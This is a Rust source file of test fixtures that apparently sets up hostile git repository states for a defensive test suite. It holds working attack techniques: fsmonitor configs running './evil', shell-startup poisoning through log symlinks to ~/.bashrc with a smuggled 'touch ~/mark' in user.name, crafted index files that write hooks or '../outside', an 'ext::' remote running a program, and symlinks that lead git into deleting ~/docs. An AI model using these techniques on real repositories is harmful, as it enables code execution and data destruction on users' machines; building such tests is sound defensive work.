//! S9, by what leads elsewhere: links and other names within a git directory, by which git would write to what it obeys or
//! to the person's own; an index that takes files out to anywhere; and ways that lead others elsewhere than whoever looks.

use crate::git::{Plant, plant};

/// A commit whose message is a configuration.
const SAID: &str = r#"
    git checkout -q -b said; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./evil\n' >message
    git commit -q --allow-empty -F message; git checkout -q main
"#;

/// The same in a nested one, with a file of its own.
const SAID_THERE: &str = r#"
    cd n; git checkout -q -b said; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ../evil\n' >message
    touch f; git add f; git commit -q -F message; git checkout -q -
"#;

/// The same with what a `.git` would say.
const POINTING: &str = r#"
    git checkout -q -b said; echo 'gitdir: ../v/data' >message; git commit -q --allow-empty -F message
    git checkout -q main; mkdir p; git init -q --separate-git-dir .git/modules/p p; cp evil p/
"#;

/// The same, and nothing that it would say it to.
const POINTING_LATER: &str = r#"
    git checkout -q -b said; echo 'gitdir: ../v/data' >message; git add message; git commit -q -F message
    git checkout -q main; git commit -q --allow-empty -m main
"#;

/// A repository among a stranger's files, of no work tree.
const STRANGERS: &str = r#"
    mkdir -p v/data/objects v/data/refs; cp .git/HEAD v/data/; cp evil v/
    printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n' >v/data/config
"#;

/// Makes what repositories share, called as an object is, in a directory.
const CALLED_AS_AN_OBJECT: &str = r#"
    common() {
      id=$(git rev-parse side); mkdir -p $1/$id; cp -r .git/objects .git/refs $1/$id
      printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./evil\n' >$1/$id/config
    }
"#;

/// What git is to write into `a` once there is no conflict any more.
const SOLVED: &str = r#"
    id=$(printf %040d 1); mkdir -p .git/rr-cache/$id; : >.git/rr-cache/$id/preimage; echo 'touch ~/mark' >.git/rr-cache/$id/postimage
    echo 'a merge=union' >.gitattributes; printf "$id.4294967295\ta\0" >.git/MERGE_RR
"#;

/// A stranger's that runs something, within a directory that is none of the person's.
const NESTED_STRANGERS: &str = r#"
    git init -q v/x; git -C v/x commit -q --allow-empty -m x; mkdir src; cp evil v/x/; cp evil src/
    printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n' >v/x/.git/config
"#;

/// Something to be lost.
const DOCUMENTS: &str = "mkdir -p ~/docs/d; echo x >~/docs/d/thesis; echo y >~/docs/other";

/// A repository that nobody has committed to for a while.
const NESTED: &str = "git init -q n; git -C n commit -q --allow-empty -m zero";
const TAKEN_OUT: &str = "cd n; git checkout -- .; git commit -q --allow-empty -m x";

/// Writes an index with what is in `names`, each of the content of `evil`.
const INDEX: &str = r#"
    cat >index.py <<'END'
import hashlib, os, struct, subprocess
oid = subprocess.run(["git", "hash-object", "-w", "evil"], capture_output=True).stdout.decode().strip()
def entry(name):
    name = name.encode()
    entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(oid) + struct.pack(">H", len(name)) + name
    return entry + b"\0" * (8 - len(entry) % 8)
names = sorted(os.environ["names"].split())
text = b"DIRC" + struct.pack(">II", 2, len(names)) + b"".join(map(entry, names))
path = subprocess.run(["git", "rev-parse", "--git-path", "index"], capture_output=True).stdout.decode().strip()
open(path, "wb").write(text + hashlib.sha1(text).digest())
END
    python3 index.py
"#;

/// An index that names `../outside`, if the names of objects are short ones, and `a` otherwise: for now they are long.
const TWOFOLD: &str = r#"
    cd n; cat >index.py <<'END'
import struct, subprocess
oid = subprocess.run(["git", "hash-object", "-w", "../evil"], capture_output=True).stdout.decode().strip()
text = b"DIRC" + struct.pack(">II", 2, 1) + struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, 0)
text += bytes.fromhex(oid) + struct.pack(">H", 10) + b"../outside" + b"\0\1a\0" + b"\0" * 4
text += b"ZZZZ" + struct.pack(">I", 4) + b"\0" * 4 + b"\0" * 20
open(".git/index", "wb").write(text)
END
    python3 index.py; cp .git/config .git/c; git config core.repositoryformatversion 1
    git config extensions.objectformat sha256
"#;

/// A repository so deep that its path is too long, and `sub/.git` that leads there by short links.
const DEEP: &str = r#"
    cat >deep.py <<'END'
import os
top, name = os.getcwd(), "d" * 250
def down(count):
    for _ in range(count):
        os.mkdir(name)
        os.chdir(name)
def up(count):
    for _ in range(count):
        os.chdir("..")
os.mkdir("x")
os.chdir("x")
down(24)
for part in ["repo/objects", "repo/refs"]:
    os.makedirs(part)
open("repo/HEAD", "w").write("ref: refs/heads/main\n")
open("repo/config", "w").write("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ./evil\n")
up(12)
os.symlink("/".join([name] * 12) + "/repo", "b")
up(12)
os.symlink("/".join([name] * 12), "a")
os.chdir(top)
os.makedirs("sub", exist_ok=True)
os.symlink("../x/a/b", "sub/.git")
END
    rm -rf sub; python3 deep.py; cp evil sub/
"#;

/// A rebase that stops, so that its files can be changed.
const STOPPED: &str = r#"
    for i in 1 2 3; do echo $i >f$i; git add f$i; git commit -q -m $i; done
    GIT_SEQUENCE_EDITOR='sed -i 1s,.*,break,' git rebase -q -i HEAD~2
"#;

pub(crate) const PLANTS: &[Plant] = &[
    plant("s9_index_with_a_hook", INDEX, TAKEN_OUT)
        .after(NESTED)
        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit a'"),
    plant("s1_index_with_a_file_outside", INDEX, "cd n; git checkout -- .; [ ! -e ../outside ] || touch ~/mark")
        .after(NESTED)
        .with("cd n; cp ../evil .; export names='../outside a'"),
    plant("s9_index_that_is_moved", INDEX, TAKEN_OUT)
        .after(NESTED)
        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit' GIT_INDEX_FILE=$PWD/kept")
        .then("mv n/kept n/.git/index"),
    plant("s9_index_in_two_parts", INDEX, TAKEN_OUT)
        .after(NESTED)
        .with("cd n; cp ../evil .; export names='.git/hooks/post-commit' GIT_INDEX_FILE=$PWD/kept")
        .then("cd n; GIT_INDEX_FILE=$PWD/kept git update-index --split-index; mv kept .git/index; mv -f sharedindex.* .git || true"),
    plant(
        "s9_log_that_leads_to_what_a_shell_starts_with",
        "git config user.name 'x;touch ~/mark;y'; ln -sf ~/.bashrc .git/logs/HEAD",
        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
    ),
    plant(
        "s9_directory_of_logs_that_leads_elsewhere",
        "git config user.name 'x;touch ~/mark;y'; mkdir l; ln -s ~/.bashrc l/HEAD; rm -r .git/logs; mv l .git/logs",
        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
    ),
    plant(
        "s9_log_that_is_a_head",
        "git config user.name 'x;touch ~/mark;y'; mkdir .git/logs/objects; ln -sf refs/../../../../../../../../..$HOME/.bashrc .git/logs/HEAD",
        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
    ),
    plant(
        "s9_log_that_is_an_attribute",
        r#"
        git config user.name 'x;touch ~/mark;y'; git checkout -q -b info/attributes; cd .git/logs/refs/heads
        mkdir objects refs; cp ../../../HEAD .; ln -sf ~/.bashrc info/attributes
    "#,
        "git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
    ),
    plant(
        "s9_log_of_a_repository_of_another_name",
        "mkdir -p x/refs/heads; ln -s ~/.bashrc x/refs/heads/main",
        "cd n; git commit -q --allow-empty -m x; bash --rcfile ~/.bashrc -ic true",
    )
    .after("git init -q -b main --separate-git-dir n.git n; git -C n commit -q --allow-empty -m zero")
    .then("git -C n config user.name 'x;touch ~/mark;y'; rm -r n.git/logs/refs; mv x/refs n.git/logs/refs"),
    plant(
        "s9_index_that_is_read_in_two_ways",
        TWOFOLD,
        "cd n; git checkout -- .; [ ! -e ../outside ] || touch ~/mark",
    )
    .after(NESTED)
    .then("cat n/.git/c >n/.git/config"),
    plant(
        "s9_conflict_that_is_remembered_elsewhere",
        r#"
        id=$(printf %040d 1); at=.git/rr-cache/$id; mkdir -p $at; cp .git/config $at/preimage; cp $at/preimage $at/postimage
        printf '[core]\n\tfsmonitor = ../evil\n' >>$at/postimage; printf '%s.-1\t%s\0' $id .git/config >.git/MERGE_RR
    "#,
        "cd n; git commit -q --allow-empty -m x; git status",
    )
    .after(NESTED)
    .with("cd n"),
    plant(
        "s1_patch_with_an_option",
        r#"
        git checkout -q -b patches; for i in c d; do echo $i >$i; git add $i; git commit -q -m $i; done
        git format-patch -q --full-index -o p -2; git checkout -q -; echo other >c; git add c; git commit -q -m o; git am p/*
        echo "'--build-fake-ancestor=$HOME/docs/other'" >.git/rebase-apply/apply-opt
    "#,
        "cd n; git am --skip; [ \"$(cat ~/docs/other)\" = y ] || touch ~/mark",
    )
    .after_both(NESTED, DOCUMENTS)
    .with("cd n"),
    plant(
        "s9_message_that_leads_to_the_configuration",
        "ln -s config n/.git/MERGE_MSG",
        "cd n; git cherry-pick said; git status",
    )
    .after_both(NESTED, SAID_THERE),
    plant(
        "s9_message_that_is_the_configuration",
        "ln -f .git/config .git/COMMIT_EDITMSG",
        "git commit -q --allow-empty -C said; git status",
    )
    .after(SAID),
    plant(
        "s9_message_that_is_a_pointer",
        "ln -f p/.git .git/COMMIT_EDITMSG",
        "git commit -q --allow-empty -C said; cd p; git status",
    )
    .after_both(STRANGERS, POINTING),
    plant(
        "s1_worktree_that_leads_elsewhere_as_a_head",
        "mkdir -p .git/worktrees/objects .git/worktrees/refs; touch .git/worktrees/objects/locked .git/worktrees/refs/locked; ln -s refs/../../../../../../../../../..$HOME/docs .git/worktrees/HEAD",
        "git worktree prune --expire=now; git gc -q; [ -e ~/docs/d/thesis ] || touch ~/mark",
    )
    .after(DOCUMENTS),
    plant("s1_worktree_that_leads_elsewhere", "mkdir .git/worktrees; ln -s ~/docs .git/worktrees/x", "git gc -q; [ -e ~/docs/d/thesis ] || touch ~/mark")
        .after(DOCUMENTS),
    plant("s1_rebase_that_leads_elsewhere", "ln -s ~/docs .git/rebase-merge", "git rebase --quit; [ -e ~/docs/d/thesis ] || touch ~/mark")
        .after(DOCUMENTS),
    plant(
        "s9_link_that_leads_whoever_looks_elsewhere",
        "mkdir own; ln -s /proc/self/cwd/../v/data own/.git; cp evil own/",
        "",
    )
    .after(STRANGERS),
    plant(
        "s9_pointer_that_leads_whoever_looks_elsewhere",
        "mkdir own; echo 'gitdir: /proc/self/cwd/../v/data' >own/.git; cp evil own/",
        "",
    )
    .after(STRANGERS),
    plant(
        "s9_pointer_through_what_no_command_sees",
        "mkdir own; echo \"gitdir: $(cat by)/../$PWD/v/data\" >own/.git; cp evil own/",
        "",
    )
    .after_both(STRANGERS, "mkdir -p ~/.ssh/d; cd; echo \"$PWD/.ssh/d/../$(pwd | sed 's,/[^/]*,/..,g')\" >../workspace/by"),
    plant(
        "s9_where_one_pushes_through_whoever_looks",
        "git config remote.origin.url /proc/self/cwd/d.git",
        "git push",
    )
    .after("git init -q --bare d.git; cp evil d.git/hooks/pre-receive"),
    plant("s9_repository_that_is_too_deep", DEEP, "git status"),
    plant(
        "s9_repository_among_objects",
        r#"
        mkdir -p x/ab; cd x/ab; cp ../../.git/HEAD .; ln -s ../../.git/objects ../../.git/refs .; cp ../../evil .
        printf '[core]\n\tbare = false\n\tworktree = .\n\trepositoryformatversion = 0\n' >config
    "#,
        "cd objects/ab; git status",
    )
    .then("mv x objects; printf '\\tfsmonitor = ./evil\\n' >>objects/ab/config"),
    plant(
        "s9_strategy_that_is_a_script",
        r#"echo octopus >.git/rebase-merge/strategy; printf %s '-- x "$(./evil)"' >.git/rebase-merge/strategy_opts"#,
        "git rebase --continue",
    )
    .with(STOPPED),
    plant(
        "s9_remote_that_is_a_program",
        "git config branch.main.remote 'ext::./evil'; git config remote.pushDefault 'ext::./evil'",
        "git fetch; git push",
    )
    .after("git config --global protocol.ext.allow always"),
    plant(
        "s1_conflict_that_is_solved_where_a_link_leads",
        "ln -sf ~/.bashrc a",
        "git commit -q --allow-empty -m 3; bash --rcfile ~/.bashrc -ic true",
    )
    .with(SOLVED)
    .after("echo alias x=y >~/.bashrc"),
    plant(
        "s1_conflict_that_is_solved_where_a_later_link_leads",
        "true",
        "git commit -q --allow-empty -m 3; bash --rcfile ~/.bashrc -ic true",
    )
    .with(SOLVED)
    .then("ln -sf ~/.bashrc a")
    .after("echo alias x=y >~/.bashrc"),
    plant(
        "s9_reference_that_is_called_as_what_leads_to_the_common_directory",
        "common .git; echo 'ref: commondir' >.git/ORIG_HEAD",
        "cp evil ~/; git checkout -qf side; git reset -q; cp ~/evil .; git status",
    )
    .with(CALLED_AS_AN_OBJECT),
    plant(
        "s9_reference_in_a_repository_among_references",
        "common .git/refs/wt; mkdir p; cp evil p/; cp .git/HEAD .git/refs/wt/; echo 'gitdir: ../.git/refs/wt' >p/.git; mkdir .git/refs/wt/objects .git/refs/wt/refs; echo 'ref: refs/wt/commondir' >.git/ORIG_HEAD",
        "cp evil ~/; git checkout -qf side; git reset -q; cp ~/evil p/; git -C p status",
    )
    .with(CALLED_AS_AN_OBJECT),
    plant(
        "s9_half_a_repository",
        "mkdir n/.git; cp evil n/; printf '[core]\\n\\tfsmonitor = ./evil\\n' >n/.git/config",
        "git init -q n; git -C n status",
    )
    .after("mkdir n"),
    plant(
        "s9_hooks_of_half_a_repository",
        "mkdir -p n/.git/hooks; cp evil n/.git/hooks/pre-commit",
        "git init -q n; git -C n commit -q --allow-empty -m x",
    )
    .after("mkdir n"),
    plant(
        "s9_submodule_that_is_half_there",
        "mkdir -p .git/modules/m; cp -r .git/objects .git/refs .git/modules/m/; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ../../../m\\n\\tfsmonitor = ./evil\\n' >.git/modules/m/config; mkdir m; cp evil m/; echo 'gitdir: ../.git/modules/m' >m/.git; echo 'ref: modules/m/HEAD' >.git/ORIG_HEAD",
        "git reset -q; git -C m status",
    ),
    plant("s9_pointer_to_what_comes_later", "mkdir p; cp evil p/; echo 'gitdir: ../e' >p/.git", "mv v/data e; cd p; git status")
        .after(STRANGERS),
    plant("s9_part_that_becomes_a_repository", "mv v/x/hid src/.git", "cd src; git status")
        .after_both(NESTED_STRANGERS, "mv v/x/.git v/x/hid; echo 'gitdir: hid' >v/x/.git"),
    plant("s9_repository_that_gets_references", "mv v/x/.git/r v/x/.git/refs", "cd v/x; git status")
        .after_both(NESTED_STRANGERS, "mv v/x/.git/refs v/x/.git/r; touch v/x/.git/refs")
        .with("rm v/x/.git/refs"),
    plant(
        "s9_link_to_what_will_be_a_pointer",
        "mkdir p; cp evil p/; ln -s ../.git/COMMIT_EDITMSG p/.git",
        "git commit -q --allow-empty -C said; cd p; git status",
    )
    .after_both(STRANGERS, POINTING_LATER),
    plant(
        "s9_link_to_what_another_branch_has_as_a_pointer",
        "mkdir p; cp evil p/; ln -s ../message p/.git",
        "git checkout -q said -- message; cd p; git status",
    )
    .after_both(STRANGERS, POINTING_LATER),
    plant(
        "s9_repository_that_gets_a_head",
        "cp .git/HEAD v/x/.git/HEAD",
        "cd v/x; git status",
    )
    .after_both(NESTED_STRANGERS, "echo none >v/x/.git/HEAD"),
    plant("s9_repository_that_is_given_to_a_directory", "mv v/x/.git src/.git", "cd src; git status")
        .after(NESTED_STRANGERS),
];
